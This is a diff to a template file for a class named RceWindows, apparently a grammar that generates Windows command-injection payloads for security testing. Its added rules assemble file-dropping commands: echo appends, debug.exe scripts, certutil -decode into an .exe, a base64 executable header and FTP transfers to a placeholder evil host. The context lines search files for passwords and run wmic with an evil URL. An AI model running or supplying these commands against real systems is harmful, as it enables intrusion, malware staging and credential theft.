@@ -13,6 +13,9 @@ internal static class RceWindows
         2× «whidden»
         «lolbin»
         §wpre
+        «word»"␠
+        «word»'␠
+        «num»"␠
         6×
         2× «num»
         2× «word»
@@ -59,6 +62,15 @@ internal static class RceWindows
         «wexe»wmic «process call create "«cmd /c whoami¦calc¦«wout»»"¦os get /format:"«evilurl»"¦useraccount list»
         «wexe»findstr /«si¦s» «password¦pass» *.«txt¦xml¦config»
         «wexe»dir %«APPDATA¦USERPROFILE¦TEMP¦windir¦PUBLIC»%
+        2× «wexe»echo «assembled» >> «rand»«¦.«com¦bin¦txt¦bat»»
+        «wexe»«debug < «rand»¦certutil -decode «rand».txt «rand».exe¦copy /b «rand».bin+«rand».bin «wout»»
+        §assembled
+        2× «db¦e «hexdigit*4»¦e 0«hexdigit*3»» «hexbyte*4-20»
+        «n «rand».com¦r cx¦«hexdigit*3-4»¦w¦q¦a «hexdigit*3»»
+        TVqQAAMAAAAEAAAA«rand→b64»
+        «set¦open¦user¦get¦binary¦bye» «evilhost»
+        §hexbyte
+        «hexdigit»«hexdigit»␠
         §wbare
         «cmd /c¦cmd.exe /c¦%COMSPEC% /c¦c:\winnt\system32\cmd.exe /c¦cmd /k» «wcmd»
         type «winfile»
